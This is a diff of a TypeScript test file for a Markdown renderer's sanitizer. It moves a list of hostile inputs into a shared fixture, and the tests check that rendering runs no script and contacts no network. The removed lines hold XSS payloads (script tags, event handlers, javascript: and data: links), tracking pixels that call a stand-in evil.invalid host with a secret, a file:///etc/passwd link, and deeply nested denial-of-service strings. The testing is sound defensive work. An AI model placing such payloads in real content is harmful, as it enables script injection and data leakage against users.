@@ -1,62 +1,7 @@
 import fc from 'fast-check';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { openMarkdown } from '../../src/ui/markdown/markdown-stream.ts';
-
-const EVIL = 'https://evil.invalid';
-
-const HOSTILE: readonly string[] = [
-  '<script>window.hacked = 1</script>',
-  '<img src=x onerror="window.hacked = 1">',
-  `<img src="${EVIL}/pixel.gif">`,
-  '<svg onload="window.hacked = 1"><a href="javascript:alert(1)"><text>x</text></a></svg>',
-  `<iframe src="${EVIL}"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">`,
-  '<details open ontoggle="window.hacked = 1">x</details>',
-  `<style>* { background: url(${EVIL}/css) }</style><p style="color: red">x</p>`,
-  `<form action="${EVIL}"><input autofocus onfocus="window.hacked = 1"></form>`,
-  `<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}">`,
-  `<link rel="stylesheet" href="${EVIL}/a.css">`,
-  '[click](javascript:window.hacked=1)',
-  '[click](JaVaScRiPt:window.hacked=1)',
-  '[click](java\tscript:window.hacked=1)',
-  '[click]( \u0001javascript:window.hacked=1)',
-  '[click](&#106;avascript:window.hacked=1)',
-  '[click](vbscript:msgbox(1))',
-  '[click](data:text/html,<script>window.hacked=1</script>)',
-  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[click](blob:https://nibble.invalid/x)',
-  '[click](file:///etc/passwd)',
-  '[click](//evil.invalid/relative-scheme)',
-  '[click](https://bank.invalid@evil.invalid/)',
-  '[click](https://good.invalid" onmouseover="window.hacked=1)',
-  `[click](${EVIL}/?q=${'a'.repeat(3000)})`,
-  '<javascript:window.hacked=1>',
-  `![pixel](${EVIL}/pixel.gif?secret=1)`,
-  `![](${EVIL}/pixel.gif)`,
-  '![x](javascript:window.hacked=1)',
-  '![x](data:image/svg+xml,<svg onload=window.hacked=1>)',
-  `![x][ref]\n\n[ref]: ${EVIL}/pixel.gif`,
-  `[![x](${EVIL}/pixel.gif)](javascript:window.hacked=1)`,
-  '```"><script>window.hacked=1</script>\ncode\n```',
-  '```js onmouseover=window.hacked=1 style=x\n<img src=x onerror=window.hacked=1>\n```',
-  '`<img src=x onerror=window.hacked=1>`',
-  '| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| [x](javascript:1) | `<b>` |\n',
-  '- [x] <input onclick=window.hacked=1>\n99999999999999. [y](javascript:1)\n',
-  '> '.repeat(400) + '<script>window.hacked = 1</script>',
-  '>'.repeat(8000) + 'deep',
-  '- '.repeat(3000) + 'deep',
-  '*_'.repeat(2000) + 'deep',
-  '[['.repeat(500) + 'x' + ']('.repeat(500),
-  '$x <img src=x onerror=window.hacked=1>\n\\[\n<script>window.hacked=1</script>\n\\]',
-  'a<br onload=window.hacked=1>b<br/>c',
-  '__proto__ constructor **[a](https://ok.invalid "t" style=x)**',
-];
-
-const ELEMENTS =
-  'A BLOCKQUOTE BR BUTTON CODE DIV EM H3 H4 H5 H6 HR INPUT LI OL P PRE S SPAN STRONG TABLE TBODY TD TH THEAD TR UL';
-const ALLOWED_ELEMENTS = new Set(ELEMENTS.split(' '));
-const ALLOWED_ATTRIBUTES = new Set(
-  'aria-label checked class dir disabled href rel role start tabindex target type'.split(' '),
-);
+import { ALLOWED_ATTRIBUTES, ALLOWED_ELEMENTS, HOSTILE_MARKDOWN } from '../fakes/hostile-markdown.ts';
 
 let host: HTMLElement;
 const requested: string[] = [];
@@ -100,7 +45,10 @@ function expectHarmless(root: HTMLElement): void {
 }
 
 describe('hostile Markdown', () => {
-  const named = HOSTILE.map((markdown) => ({ name: markdown.slice(0, 48).replace(/\s+/gu, ' '), markdown }));
+  const named = HOSTILE_MARKDOWN.map((markdown) => ({
+    name: markdown.slice(0, 48).replace(/\s+/gu, ' '),
+    markdown,
+  }));
 
   test.for(named)('is harmless, whole or streamed: $name', ({ markdown }) => {
     const atOnce = render(markdown, whole);
@@ -110,7 +58,7 @@ describe('hostile Markdown', () => {
   });
 
   test('runs no script and asks the network for nothing', async () => {
-    for (const markdown of HOSTILE) render(markdown, whole);
+    for (const markdown of HOSTILE_MARKDOWN) render(markdown, whole);
     await new Promise((done) => setTimeout(done, 300));
     expect('hacked' in window).toBe(false);
     expect(requested.filter((name) => name.includes('evil') || name.endsWith('/x'))).toEqual([]);
